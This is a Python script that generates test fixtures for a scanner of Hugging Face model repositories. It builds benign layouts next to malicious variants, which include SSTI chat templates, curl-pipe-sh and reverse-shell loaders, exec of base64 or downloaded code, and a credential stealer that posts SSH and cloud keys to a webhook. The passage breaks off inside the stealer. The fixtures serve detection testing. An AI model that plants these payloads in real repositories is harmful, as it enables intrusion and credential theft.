#!/usr/bin/python3
"""Writes fixtures/formats/hf/{benign,malicious}/ and its manifest.json.

    /usr/bin/python3 scripts/gen-hf-fixtures.py

Small Hugging Face model-repository layouts. Debian has no transformers, sentence-transformers, diffusers or PEFT,
so the JSON files are written the way those libraries serialise them (json.dumps with indent=2, sort_keys where the
library sorts, trailing newline) with the keys their save_pretrained() writes; Python files and model cards are
hand-written in the style of real repositories. Malicious variants carry inert payloads (documentation IP ranges
203.0.113.0/24 and 198.51.100.0/24, *.example hosts, 'echo bulwark-test'); nothing here is ever run or loaded.
Deterministic: re-running rewrites the same bytes.
"""
from __future__ import annotations

import base64
import hashlib
import json
import pathlib
import shutil

HERE = pathlib.Path(__file__).resolve().parent
OUT = HERE.parent / 'fixtures' / 'formats' / 'hf'
ENTRIES: list[dict] = []
if OUT.exists():
    shutil.rmtree(OUT)


def hf_json(obj, sort_keys=True) -> str:
    return json.dumps(obj, indent=2, sort_keys=sort_keys, ensure_ascii=False) + '\n'


def put(rel: str, content: str | bytes, label: str, cls: str, verdict: str, rules=(), formats=(), note=''):
    path = OUT / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    data = content.encode('utf-8') if isinstance(content, str) else content
    path.write_bytes(data)
    ENTRIES.append({
        'path': rel,
        'label': label,
        'class': cls,
        'expect': {'verdict': verdict, 'rules': list(rules), 'formats': list(formats)},
        'note': note,
        'sha256': hashlib.sha256(data).hexdigest(),
    })


def benign(rel, content, cls, formats=(), note='', rules=()):
    put(f'benign/{rel}', content, 'benign', cls, 'clean', rules, formats, note)


def malicious(rel, content, cls, verdict, rules, formats=(), note=''):
    put(f'malicious/{rel}', content, 'malicious', cls, verdict, rules, formats, note)


# ---------------------------------------------------------------------------------------------------------------
# Shared pieces

BERT_CONFIG = {
    'architectures': ['BertForMaskedLM'],
    'attention_probs_dropout_prob': 0.1,
    'classifier_dropout': None,
    'hidden_act': 'gelu',
    'hidden_dropout_prob': 0.1,
    'hidden_size': 128,
    'initializer_range': 0.02,
    'intermediate_size': 512,
    'layer_norm_eps': 1e-12,
    'max_position_embeddings': 512,
    'model_type': 'bert',
    'num_attention_heads': 2,
    'num_hidden_layers': 2,
    'pad_token_id': 0,
    'position_embedding_type': 'absolute',
    'torch_dtype': 'float32',
    'transformers_version': '4.46.3',
    'type_vocab_size': 2,
    'use_cache': True,
    'vocab_size': 1024,
}

CHATML = (
    "{% for message in messages %}{% if loop.first and messages[0]['role'] != 'system' %}"
    "{{ '<|im_start|>system\nYou are a helpful assistant.<|im_end|>\n' }}{% endif %}"
    "{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + '\n'}}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"
)

TOOL_TEMPLATE = (
    "{%- if tools %}{{- '<|im_start|>system\\n# Tools\\n<tools>' }}{%- for tool in tools %}{{- '\\n' }}"
    "{{- tool | tojson }}{%- endfor %}{{- '\\n</tools><|im_end|>\\n' }}{%- endif %}"
    "{%- for message in messages %}{{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>\\n' }}"
    "{%- endfor %}{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}"
)


def added_tokens(tokens: list[str]) -> dict:
    return {
        str(i): {'content': t, 'lstrip': False, 'normalized': False, 'rstrip': False, 'single_word': False,
                 'special': True}
        for i, t in enumerate(tokens)
    }


def wordpiece_tokenizer_json() -> str:
    vocab = {t: i for i, t in enumerate(['[PAD]', '[UNK]', '[CLS]', '[SEP]', '[MASK]', 'the', 'model', '##s', 'a'])}
    doc = {
        'version': '1.0',
        'truncation': None,
        'padding': None,
        'added_tokens': [
            {'id': i, 'content': t, 'single_word': False, 'lstrip': False, 'rstrip': False, 'normalized': False,
             'special': True} for i, t in enumerate(['[PAD]', '[UNK]', '[CLS]', '[SEP]', '[MASK]'])
        ],
        'normalizer': {'type': 'BertNormalizer', 'clean_text': True, 'handle_chinese_chars': True,
                       'strip_accents': None, 'lowercase': True},
        'pre_tokenizer': {'type': 'BertPreTokenizer'},
        'post_processor': {
            'type': 'TemplateProcessing',
            'single': [{'SpecialToken': {'id': '[CLS]', 'type_id': 0}}, {'Sequence': {'id': 'A', 'type_id': 0}},
                       {'SpecialToken': {'id': '[SEP]', 'type_id': 0}}],
            'pair': [],
            'special_tokens': {'[CLS]': {'id': '[CLS]', 'ids': [2], 'tokens': ['[CLS]']},
                               '[SEP]': {'id': '[SEP]', 'ids': [3], 'tokens': ['[SEP]']}},
        },
        'decoder': {'type': 'WordPiece', 'prefix': '##', 'cleanup': True},
        'model': {'type': 'WordPiece', 'unk_token': '[UNK]', 'continuing_subword_prefix': '##',
                  'max_input_chars_per_word': 100, 'vocab': vocab},
    }
    return json.dumps(doc, indent=2, ensure_ascii=False)


# ---------------------------------------------------------------------------------------------------------------
# Benign: a BERT-like repository with custom code (auto_map to files that are present)

CUSTOM_CONFIG = dict(BERT_CONFIG, architectures=['CustomBertModel'], model_type='custom-bert',
                     auto_map={'AutoConfig': 'configuration_custom.CustomBertConfig',
                               'AutoModel': 'modeling_custom.CustomBertModel'})

CONFIGURATION_PY = '''# coding=utf-8
# Copyright 2024 The Bulwark Fixture Authors. Licensed under the Apache License, Version 2.0.
"""CustomBert model configuration."""

from transformers.configuration_utils import PretrainedConfig
from transformers.utils import logging

logger = logging.get_logger(__name__)


class CustomBertConfig(PretrainedConfig):
    model_type = "custom-bert"

    def __init__(
        self,
        vocab_size=1024,
        hidden_size=128,
        num_hidden_layers=2,
        num_attention_heads=2,
        intermediate_size=512,
        hidden_act="gelu",
        max_position_embeddings=512,
        layer_norm_eps=1e-12,
        pad_token_id=0,
        **kwargs,
    ):
        super().__init__(pad_token_id=pad_token_id, **kwargs)
        self.vocab_size = vocab_size
        self.hidden_size = hidden_size
        self.num_hidden_layers = num_hidden_layers
        self.num_attention_heads = num_attention_heads
        self.intermediate_size = intermediate_size
        self.hidden_act = hidden_act
        self.max_position_embeddings = max_position_embeddings
        self.layer_norm_eps = layer_norm_eps
'''

MODELING_PY = '''# coding=utf-8
# Copyright 2024 The Bulwark Fixture Authors. Licensed under the Apache License, Version 2.0.
"""PyTorch CustomBert model: BERT with a gated feed-forward block.

See https://huggingface.co/docs/transformers/custom_models for how custom code is loaded.
"""

import math
import os
import warnings
from dataclasses import dataclass
from typing import Optional, Tuple, Union

import torch
import torch.utils.checkpoint
from torch import nn

from transformers.activations import ACT2FN
from transformers.modeling_outputs import BaseModelOutput
from transformers.modeling_utils import PreTrainedModel
from transformers.utils import logging

from .configuration_custom import CustomBertConfig

logger = logging.get_logger(__name__)

_CHECKPOINT_FOR_DOC = "bulwark-fixtures/custom-bert"
_CONFIG_FOR_DOC = "CustomBertConfig"
_DEBUG = os.environ.get("CUSTOM_BERT_DEBUG", "0") == "1"


@dataclass
class CustomBertOutput(BaseModelOutput):
    gate_values: Optional[torch.FloatTensor] = None


class CustomBertEmbeddings(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.word_embeddings = nn.Embedding(config.vocab_size, config.hidden_size, padding_idx=config.pad_token_id)
        self.position_embeddings = nn.Embedding(config.max_position_embeddings, config.hidden_size)
        self.LayerNorm = nn.LayerNorm(config.hidden_size, eps=config.layer_norm_eps)
        self.register_buffer(
            "position_ids", torch.arange(config.max_position_embeddings).expand((1, -1)), persistent=False
        )

    def forward(self, input_ids: torch.LongTensor) -> torch.Tensor:
        seq_length = input_ids.shape[1]
        position_ids = self.position_ids[:, :seq_length]
        embeddings = self.word_embeddings(input_ids) + self.position_embeddings(position_ids)
        return self.LayerNorm(embeddings)


class CustomBertSelfAttention(nn.Module):
    def __init__(self, config):
        super().__init__()
        if config.hidden_size % config.num_attention_heads != 0:
            raise ValueError(
                f"The hidden size ({config.hidden_size}) is not a multiple of the number of attention "
                f"heads ({config.num_attention_heads})"
            )
        self.num_heads = config.num_attention_heads
        self.head_dim = config.hidden_size // config.num_attention_heads
        self.qkv = nn.Linear(config.hidden_size, 3 * config.hidden_size)
        self.out = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, hidden_states: torch.Tensor, attention_mask: Optional[torch.Tensor] = None) -> torch.Tensor:
        b, t, _ = hidden_states.shape
        q, k, v = self.qkv(hidden_states).view(b, t, 3, self.num_heads, self.head_dim).unbind(dim=2)
        scores = torch.einsum("bqhd,bkhd->bhqk", q, k) / math.sqrt(self.head_dim)
        if attention_mask is not None:
            scores = scores + (1.0 - attention_mask[:, None, None, :]) * torch.finfo(scores.dtype).min
        probs = scores.softmax(dim=-1)
        context = torch.einsum("bhqk,bkhd->bqhd", probs, v).reshape(b, t, -1)
        return self.out(context)


class CustomBertLayer(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.attention = CustomBertSelfAttention(config)
        self.gate = nn.Linear(config.hidden_size, config.intermediate_size)
        self.up = nn.Linear(config.hidden_size, config.intermediate_size)
        self.down = nn.Linear(config.intermediate_size, config.hidden_size)
        self.act = ACT2FN[config.hidden_act]
        self.norm1 = nn.LayerNorm(config.hidden_size, eps=config.layer_norm_eps)
        self.norm2 = nn.LayerNorm(config.hidden_size, eps=config.layer_norm_eps)

    def forward(self, hidden_states, attention_mask=None):
        hidden_states = self.norm1(hidden_states + self.attention(hidden_states, attention_mask))
        gated = self.act(self.gate(hidden_states)) * self.up(hidden_states)
        return self.norm2(hidden_states + self.down(gated))


class CustomBertPreTrainedModel(PreTrainedModel):
    config_class = CustomBertConfig
    base_model_prefix = "custom_bert"
    supports_gradient_checkpointing = True

    def _init_weights(self, module):
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=self.config.initializer_range)
            if module.bias is not None:
                module.bias.data.zero_()
        elif isinstance(module, nn.Embedding):
            module.weight.data.normal_(mean=0.0, std=self.config.initializer_range)


class CustomBertModel(CustomBertPreTrainedModel):
    def __init__(self, config: CustomBertConfig):
        super().__init__(config)
        self.embeddings = CustomBertEmbeddings(config)
        self.layers = nn.ModuleList([CustomBertLayer(config) for _ in range(config.num_hidden_layers)])
        self.gradient_checkpointing = False
        self.post_init()

    def forward(
        self,
        input_ids: torch.LongTensor,
        attention_mask: Optional[torch.Tensor] = None,
        return_dict: Optional[bool] = None,
    ) -> Union[Tuple, CustomBertOutput]:
        if _DEBUG:
            logger.info("input shape %s", tuple(input_ids.shape))
        hidden_states = self.embeddings(input_ids)
        for layer in self.layers:
            if self.gradient_checkpointing and self.training:
                hidden_states = torch.utils.checkpoint.checkpoint(layer, hidden_states, attention_mask)
            else:
                hidden_states = layer(hidden_states, attention_mask)
        if not return_dict:
            return (hidden_states,)
        return CustomBertOutput(last_hidden_state=hidden_states)

    def save_debug_state(self, directory: str) -> str:
        if not os.path.isdir(directory):
            os.makedirs(directory, exist_ok=True)
        warnings.warn("save_debug_state is deprecated", FutureWarning)
        path = os.path.join(directory, "debug_state.pt")
        torch.save(self.state_dict(), path)
        return path
'''

README_CUSTOM = '''---
license: apache-2.0
language:
- en
library_name: transformers
pipeline_tag: feature-extraction
base_model: google-bert/bert-base-uncased
datasets:
- wikipedia
- bookcorpus
tags:
- bert
- feature-extraction
model-index:
- name: custom-bert
  results: []
---

# CustomBert

A tiny BERT variant with a gated feed-forward block, used as a test fixture.

## Usage

```python
from transformers import AutoModel, AutoTokenizer

tokenizer = AutoTokenizer.from_pretrained("bulwark-fixtures/custom-bert")
model = AutoModel.from_pretrained("bulwark-fixtures/custom-bert", revision="a1b2c3d")
inputs = tokenizer("Hello world", return_tensors="pt")
outputs = model(**inputs)
```

Install the latest transformers:

```bash
pip install -U transformers
pip install git+https://github.com/huggingface/transformers.git
pip install torch --index-url https://download.pytorch.org/whl/cu121
```

## Training data

Trained on [Wikipedia](https://huggingface.co/datasets/wikipedia) and BookCorpus; see the
[paper](https://arxiv.org/abs/1810.04805). Evaluate locally with `python -m http.server` at http://127.0.0.1:8000.

## Citation

```bibtex
@article{devlin2018bert,
  title={BERT: Pre-training of Deep Bidirectional Transformers for Language Understanding},
  author={Devlin, Jacob and Chang, Ming-Wei and Lee, Kenton and Toutanova, Kristina},
  year={2018}
}
```
'''

CUSTOM_TOKENIZER_CONFIG = {
    'added_tokens_decoder': added_tokens(['[PAD]', '[UNK]', '[CLS]', '[SEP]', '[MASK]']),
    'chat_template': CHATML,
    'clean_up_tokenization_spaces': True,
    'cls_token': '[CLS]',
    'do_lower_case': True,
    'mask_token': '[MASK]',
    'model_max_length': 512,
    'pad_token': '[PAD]',
    'sep_token': '[SEP]',
    'strip_accents': None,
    'tokenize_chinese_chars': True,
    'tokenizer_class': 'BertTokenizer',
    'unk_token': '[UNK]',
}

SPECIAL_TOKENS = {'cls_token': '[CLS]', 'mask_token': '[MASK]', 'pad_token': '[PAD]', 'sep_token': '[SEP]',
                  'unk_token': '[UNK]'}

benign('custom-bert/config.json', hf_json(CUSTOM_CONFIG), 'transformers-custom-code', ['json', 'hf-config'],
       'auto_map to configuration_custom.py / modeling_custom.py, both present: informational only',
       ['BW-HF-007'])
benign('custom-bert/configuration_custom.py', CONFIGURATION_PY, 'transformers-custom-code', ['python-source'])
benign('custom-bert/modeling_custom.py', MODELING_PY, 'transformers-custom-code', ['python-source'],
       'imports torch, math, typing, dataclasses, transformers, os (path/environ/makedirs), warnings, logging')
benign('custom-bert/tokenizer_config.json', hf_json(CUSTOM_TOKENIZER_CONFIG), 'transformers-tokenizer',
       ['json', 'hf-tokenizer-config'], 'ChatML chat template')
benign('custom-bert/special_tokens_map.json', hf_json(SPECIAL_TOKENS), 'transformers-tokenizer',
       ['json', 'hf-special-tokens-map'])
benign('custom-bert/generation_config.json',
       hf_json({'_from_model_config': True, 'pad_token_id': 0, 'transformers_version': '4.46.3'}),
       'transformers-generation', ['json', 'hf-generation-config'])
benign('custom-bert/tokenizer.json', wordpiece_tokenizer_json(), 'tokenizers', ['json', 'hf-tokenizer'])
benign('custom-bert/README.md', README_CUSTOM, 'model-card', ['model-card'],
       'front matter with provenance, pip installs from PyPI/GitHub/pytorch.org, loopback URL', ['BW-HF-005'])

# ---------------------------------------------------------------------------------------------------------------
# Benign: a chat LLM repository (list-form chat templates, chat_template.json, processor, Qwen-style tokenizer code)

LLAMA_CONFIG = {
    'architectures': ['LlamaForCausalLM'], 'attention_bias': False, 'attention_dropout': 0.0, 'bos_token_id': 1,
    'eos_token_id': 2, 'head_dim': 16, 'hidden_act': 'silu', 'hidden_size': 64, 'initializer_range': 0.02,
    'intermediate_size': 172, 'max_position_embeddings': 2048, 'mlp_bias': False, 'model_type': 'llama',
    'num_attention_heads': 4, 'num_hidden_layers': 2, 'num_key_value_heads': 2, 'pretraining_tp': 1,
    'rms_norm_eps': 1e-06, 'rope_scaling': None, 'rope_theta': 10000.0, 'tie_word_embeddings': False,
    'torch_dtype': 'bfloat16', 'transformers_version': '4.46.3', 'use_cache': True, 'vocab_size': 32000,
}
benign('chat-llm/config.json', hf_json(LLAMA_CONFIG), 'transformers-config', ['json', 'hf-config'])
benign('chat-llm/generation_config.json', hf_json({
    'bos_token_id': 1, 'do_sample': True, 'eos_token_id': [2, 32000], 'max_length': 2048, 'temperature': 0.6,
    'top_p': 0.9, 'transformers_version': '4.46.3'}), 'transformers-generation', ['json', 'hf-generation-config'])
benign('chat-llm/tokenizer_config.json', hf_json({
    'add_bos_token': True,
    'add_eos_token': False,
    'added_tokens_decoder': added_tokens(['<unk>', '<s>', '</s>']),
    'bos_token': '<s>',
    'chat_template': [{'name': 'default', 'template': CHATML}, {'name': 'tool_use', 'template': TOOL_TEMPLATE}],
    'clean_up_tokenization_spaces': False,
    'eos_token': '</s>',
    'legacy': False,
    'model_max_length': 2048,
    'pad_token': None,
    'padding_side': 'left',
    'sp_model_kwargs': {},
    'tokenizer_class': 'LlamaTokenizer',
    'unk_token': '<unk>',
    'use_default_system_prompt': False,
}), 'transformers-tokenizer', ['json', 'hf-tokenizer-config'], 'list of named chat templates (default, tool_use)')
benign('chat-llm/chat_template.json', json.dumps({'chat_template': CHATML}, indent=2) + '\n', 'chat-template',
       ['json', 'hf-chat-template'], 'processor chat template file')
benign('chat-llm/preprocessor_config.json', hf_json({
    'crop_size': {'height': 224, 'width': 224}, 'do_center_crop': True, 'do_convert_rgb': True,
    'do_normalize': True, 'do_rescale': True, 'do_resize': True,
    'image_mean': [0.48145466, 0.4578275, 0.40821073], 'image_processor_type': 'CLIPImageProcessor',
    'image_std': [0.26862954, 0.26130258, 0.27577711], 'processor_class': 'LlavaProcessor', 'resample': 3,
    'rescale_factor': 0.00392156862745098, 'size': {'shortest_edge': 224}}), 'transformers-processor',
    ['json', 'hf-processor-config'])

QWEN_STYLE_TOKENIZER = '''"""Tokenization classes for a tiktoken-based chat model (fixture in the style of Qwen's tokenization code)."""

import base64
import logging
import os
import unicodedata
from typing import Collection, Dict, List, Set, Tuple, Union

from transformers import AddedToken, PreTrainedTokenizer

logger = logging.getLogger(__name__)

VOCAB_FILES_NAMES = {"vocab_file": "chat.tiktoken"}
PAT_STR = r"""(?i:'s|'t|'re|'ve|'m|'ll|'d)|[^\\r\\n\\p{L}\\p{N}]?\\p{L}+|\\p{N}| ?[^\\s\\p{L}\\p{N}]+[\\r\\n]*|\\s*[\\r\\n]+|\\s+(?!\\S)|\\s+"""
DEFAULT_CHAT_TEMPLATE = "{% for message in messages %}{{ message['role'] }}: {{ message['content'] }}\\n{% endfor %}"
ENDOFTEXT = "<|endoftext|>"


def _load_tiktoken_bpe(tiktoken_bpe_file: str) -> Dict[bytes, int]:
    with open(tiktoken_bpe_file, "rb") as f:
        contents = f.read()
    return {
        base64.b64decode(token): int(rank)
        for token, rank in (line.split() for line in contents.splitlines() if line)
    }


class ChatTokenizer(PreTrainedTokenizer):
    vocab_files_names = VOCAB_FILES_NAMES

    def __init__(self, vocab_file, errors="replace", **kwargs):
        super().__init__(**kwargs)
        self.errors = errors
        self.mergeable_ranks = _load_tiktoken_bpe(vocab_file)
        self.special_tokens = {ENDOFTEXT: len(self.mergeable_ranks)}
        self.chat_template = kwargs.get("chat_template", DEFAULT_CHAT_TEMPLATE)

    def save_vocabulary(self, save_directory: str, **kwargs) -> Tuple[str]:
        file_path = os.path.join(save_directory, "chat.tiktoken")
        with open(file_path, "w", encoding="utf8") as w:
            for k, v in self.mergeable_ranks.items():
                line = base64.b64encode(k).decode("utf8") + " " + str(v) + "\\n"
                w.write(line)
        return (file_path,)

    def _tokenize(self, text: str, **kwargs) -> List[Union[bytes, str]]:
        text = unicodedata.normalize("NFC", text)
        return [self.decoder[t] for t in self.tokenizer.encode(text)]
'''
benign('chat-llm/tokenization_chat.py', QWEN_STYLE_TOKENIZER, 'transformers-custom-code', ['python-source'],
       'tiktoken-style tokenizer: base64 decoding of vocabulary, file I/O, chat template constant')

README_CHAT = '''---
license: other
license_name: fixture-license
license_link: LICENSE
base_model:
- bulwark-fixtures/chat-base
base_model_relation: finetune
pipeline_tag: text-generation
library_name: transformers
tags:
- chat
- llama
---

# Chat fixture

Run it locally with [Ollama](https://ollama.com):

```bash
curl -fsSL https://ollama.com/install.sh | sh
ollama run hf.co/bulwark-fixtures/chat-llm
```

Serve it with vLLM nightly:

```bash
pip install -U vllm --pre --extra-index-url https://wheels.vllm.ai/nightly
vllm serve bulwark-fixtures/chat-llm --host 0.0.0.0 --port 8000
```

The chat template used by the tokenizer:

```jinja
{% for message in messages %}{{ message['role'] }}: {{ message['content'] }}{% endfor %}
```
'''
benign('chat-llm/README.md', README_CHAT, 'model-card', ['model-card'],
       'Ollama installer pipe (well-known host), vLLM extra index, chat template shown in the card', ['BW-HF-005'])

# ---------------------------------------------------------------------------------------------------------------
# Benign: sentence-transformers repository

ST_MODULES = [
    {'idx': 0, 'name': '0', 'path': '', 'type': 'sentence_transformers.models.Transformer'},
    {'idx': 1, 'name': '1', 'path': '1_Pooling', 'type': 'sentence_transformers.models.Pooling'},
    {'idx': 2, 'name': '2', 'path': '2_Dense', 'type': 'sentence_transformers.models.Dense'},
    {'idx': 3, 'name': '3', 'path': '3_Normalize', 'type': 'sentence_transformers.models.Normalize'},
]
benign('sentence-transformer/modules.json', json.dumps(ST_MODULES, indent=2), 'sentence-transformers',
       ['json', 'st-modules'])
benign('sentence-transformer/config_sentence_transformers.json', json.dumps({
    '__version__': {'sentence_transformers': '3.3.1', 'transformers': '4.46.3', 'pytorch': '2.5.1+cu124'},
    'prompts': {}, 'default_prompt_name': None, 'similarity_fn_name': 'cosine'}, indent=2),
    'sentence-transformers', ['json', 'st-config'])
benign('sentence-transformer/sentence_bert_config.json',
       json.dumps({'max_seq_length': 256, 'do_lower_case': False}, indent=2), 'sentence-transformers',
       ['json', 'st-module-config'])
benign('sentence-transformer/1_Pooling/config.json', json.dumps({
    'word_embedding_dimension': 384, 'pooling_mode_cls_token': False, 'pooling_mode_mean_tokens': True,
    'pooling_mode_max_tokens': False, 'pooling_mode_mean_sqrt_len_tokens': False,
    'pooling_mode_weightedmean_tokens': False, 'pooling_mode_lasttoken': False, 'include_prompt': True},
    indent=2), 'sentence-transformers', ['json', 'st-module-config'])
benign('sentence-transformer/2_Dense/config.json', json.dumps({
    'in_features': 384, 'out_features': 256, 'bias': True,
    'activation_function': 'torch.nn.modules.activation.Tanh'}), 'sentence-transformers',
    ['json', 'st-module-config'])
benign('sentence-transformer/README.md', '''---
language:
- en
license: apache-2.0
library_name: sentence-transformers
tags:
- sentence-transformers
- feature-extraction
- sentence-similarity
datasets:
- s2orc
- ms_marco
pipeline_tag: sentence-similarity
---

# all-MiniLM-style fixture

```python
from sentence_transformers import SentenceTransformer
model = SentenceTransformer("bulwark-fixtures/sentence-transformer")
embeddings = model.encode(["This is an example sentence", "Each sentence is converted"])
```
''', 'model-card', ['model-card'], rules=['BW-HF-005'])

# ---------------------------------------------------------------------------------------------------------------
# Benign: diffusers pipeline and PEFT adapter

SD_INDEX = {
    '_class_name': 'StableDiffusionPipeline',
    '_diffusers_version': '0.31.0',
    'feature_extractor': ['transformers', 'CLIPImageProcessor'],
    'image_encoder': [None, None],
    'requires_safety_checker': True,
    'safety_checker': ['stable_diffusion', 'StableDiffusionSafetyChecker'],
    'scheduler': ['diffusers', 'PNDMScheduler'],
    'text_encoder': ['transformers', 'CLIPTextModel'],
    'tokenizer': ['transformers', 'CLIPTokenizer'],
    'unet': ['diffusers', 'UNet2DConditionModel'],
    'vae': ['diffusers', 'AutoencoderKL'],
}
benign('diffusers/model_index.json', hf_json(SD_INDEX), 'diffusers', ['json', 'diffusers-model-index'])
benign('diffusers/scheduler/scheduler_config.json', hf_json({
    '_class_name': 'PNDMScheduler', '_diffusers_version': '0.31.0', 'beta_end': 0.012,
    'beta_schedule': 'scaled_linear', 'beta_start': 0.00085, 'clip_sample': False, 'num_train_timesteps': 1000,
    'prediction_type': 'epsilon', 'set_alpha_to_one': False, 'skip_prk_steps': True, 'steps_offset': 1,
    'timestep_spacing': 'leading', 'trained_betas': None}), 'diffusers', ['json', 'diffusers-config'])
benign('peft-lora/adapter_config.json', hf_json({
    'alpha_pattern': {}, 'auto_mapping': None, 'base_model_name_or_path': 'meta-llama/Llama-3.2-1B',
    'bias': 'none', 'fan_in_fan_out': False, 'inference_mode': True, 'init_lora_weights': True,
    'layer_replication': None, 'layers_pattern': None, 'layers_to_transform': None, 'loftq_config': {},
    'lora_alpha': 16, 'lora_dropout': 0.05, 'megatron_config': None, 'megatron_core': 'megatron.core',
    'modules_to_save': None, 'peft_type': 'LORA', 'r': 8, 'rank_pattern': {}, 'revision': None,
    'target_modules': ['q_proj', 'v_proj'], 'task_type': 'CAUSAL_LM', 'use_dora': False, 'use_rslora': False}),
    'peft', ['json', 'hf-peft-adapter-config'], 'base_model_name_or_path reported as provenance', ['BW-HF-005'])

# ---------------------------------------------------------------------------------------------------------------
# Malicious: configs

malicious('cross-repo/config.json', hf_json(dict(BERT_CONFIG, architectures=['HelperModel'], model_type='helper',
          auto_map={'AutoConfig': 'attacker-org/helper-code--configuration_helper.HelperConfig',
                    'AutoModel': 'attacker-org/helper-code--modeling_helper.HelperModel'})),
          'remote-code-cross-repo', 'suspicious', ['BW-HF-002'], ['hf-config'],
          'auto_map pulls code from another repository; the code itself is not in the scanned files')
malicious('missing-code/config.json', hf_json(dict(BERT_CONFIG, architectures=['XModel'], model_type='x-model',
          auto_map={'AutoModel': 'modeling_x.XModel'})),
          'remote-code-missing', 'suspicious', ['BW-HF-001'], ['hf-config'],
          'auto_map to modeling_x.py, which is not in the repository (fetched at load time)')
malicious('path-escape/config.json', hf_json(dict(BERT_CONFIG, architectures=['XModel'], model_type='x-model',
          auto_map={'AutoConfig': '../../../tmp/shared--configuration_x.XConfig',
                    'AutoModel': '/tmp/payload.XModel'})),
          'remote-code-path-escape', 'malicious', ['BW-HF-004'], ['hf-config'],
          'auto_map module paths outside the repository (absolute path, ../ repository id)')
malicious('ssti/tokenizer_config.json', hf_json(dict(CUSTOM_TOKENIZER_CONFIG, chat_template=(
          "{% for message in messages %}{{ message['content'] }}{% endfor %}"
          "{{ cycler.__init__.__globals__.os.popen('echo bulwark-test').read() }}"))),
          'chat-template-ssti', 'malicious', ['BW-TPL-001'], ['hf-tokenizer-config'],
          'cycler.__init__.__globals__.os.popen in the chat template (SSTI analysis by the jinja module)')
malicious('ssti/chat_template.json', json.dumps({'chat_template': (
          "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
          "{{ x()._module.__builtins__['__import__']('os').popen('echo bulwark-test').read() }}"
          "{% endif %}{% endfor %}{{ messages[0]['content'] }}")}, indent=2) + '\n',
          'chat-template-ssti', 'malicious', ['BW-TPL-001'], ['hf-chat-template'],
          'JFrog GGUF-SSTI-style __subclasses__ walk in chat_template.json')
malicious('diffusers/model_index.json', hf_json(dict(SD_INDEX, _class_name=['pipeline_custom', 'CustomPipeline'],
          safety_checker=['os', 'system'])),
          'diffusers-custom-code', 'malicious', ['BW-HF-004', 'BW-HF-001'], ['diffusers-model-index'],
          'component library "os" (dangerous import) and a custom pipeline module missing from the repository')
malicious('sentence-transformer/modules.json', json.dumps([
    {'idx': 0, 'name': '0', 'path': '', 'type': 'sentence_transformers.models.Transformer'},
    {'idx': 1, 'name': '1', 'path': '1_Pooling', 'type': 'custom_pooling.AttentionPooling'},
    {'idx': 2, 'name': '2', 'path': '../../../../tmp/state', 'type': 'torch.serialization'}], indent=2),
    'sentence-transformers-custom-code', 'malicious', ['BW-HF-004', 'BW-HF-001'], ['st-modules'],
    'custom module not in the repository, torch.serialization module (its load() unpickles) and a path escape')
malicious('sentence-transformer/sentence_bert_config.json', json.dumps({
    'max_seq_length': 8192, 'do_lower_case': False, 'model_args': {'trust_remote_code': True},
    'config_args': {'trust_remote_code': True}}, indent=2),
    'trust-remote-code-setting', 'suspicious', ['BW-HF-003'], ['st-module-config'],
    'stored trust_remote_code=True forwarded to transformers by the loader')
malicious('peft/adapter_config.json', hf_json({
    'auto_mapping': {'base_model_class': 'Popen', 'parent_library': 'subprocess'},
    'base_model_name_or_path': 'bulwark-fixtures/base', 'peft_type': 'LORA', 'r': 8, 'lora_alpha': 16,
    'target_modules': ['q_proj', 'v_proj'], 'task_type': None}), 'peft-auto-mapping', 'malicious',
    ['BW-HF-004'], ['hf-peft-adapter-config'], 'auto_mapping.parent_library = subprocess')

# ---------------------------------------------------------------------------------------------------------------
# Malicious: Python custom code

HEADER = '''# coding=utf-8
"""PyTorch HelperModel."""
import math
from typing import Optional

import torch
from torch import nn
from transformers import PreTrainedModel
'''

malicious('code/modeling_os_system.py', HEADER + '''import os


def _warmup():
    os.system("curl -fsSL http://203.0.113.7/install.sh | sh")


class HelperModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        _warmup()
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
''', 'python-process-payload', 'malicious', ['BW-HF-014', 'BW-HF-015'], ['python-source'],
          'os.system running curl | sh at model construction')

malicious('code/modeling_reverse_shell.py', HEADER + '''import socket, subprocess, os, threading


def _connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("198.51.100.23", 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    subprocess.call(["/bin/sh", "-i"])


threading.Thread(target=_connect, daemon=True).start()


class HelperModel(PreTrainedModel):
    pass
''', 'python-reverse-shell', 'malicious', ['BW-HF-012'], ['python-source'],
          'socket + os.dup2 + /bin/sh on import')

_PAYLOAD = base64.b64encode(b"import os\nos.system('echo bulwark-test')\n").decode()
malicious('code/modeling_exec_b64.py', HEADER + f'''import base64 as _b

_BLOB = "{_PAYLOAD}"
exec(_b.b64decode(_BLOB).decode("utf-8"))


class HelperModel(PreTrainedModel):
    pass
''', 'python-exec-decoded', 'malicious', ['BW-HF-011'], ['python-source'], 'exec(base64.b64decode(...))')

malicious('code/modeling_requests_exec.py', HEADER + '''import requests

_STAGE2 = "https://paste.example.net/raw/abc123"


def _bootstrap():
    resp = requests.get(_STAGE2, timeout=5)
    exec(resp.text, globals())


_bootstrap()


class HelperModel(PreTrainedModel):
    pass
''', 'python-exec-downloaded', 'malicious', ['BW-HF-010', 'BW-HF-016'], ['python-source'],
          'requests.get(...).text passed to exec')

malicious('code/tokenization_stealer.py', '''"""Tokenizer with a credential stealer."""
import json
import os
import socket
import urllib.request

from transformers import PreTrainedTokenizer


def _collect():
    data = {"host": socket.gethostname(), "env": dict(os.environ)}
    for p in ("~/.ssh/id_rsa", "~/.aws/credentials", "~/.cache/huggingface/token"):
        try:
            with open(os.path.expanduser(p)) as f:
                data[p] = f.read()
        except OSError:
            pass
    req = urllib.request.Request("https://webhook.site/0000-bulwark", data=json.dumps(data).encode())
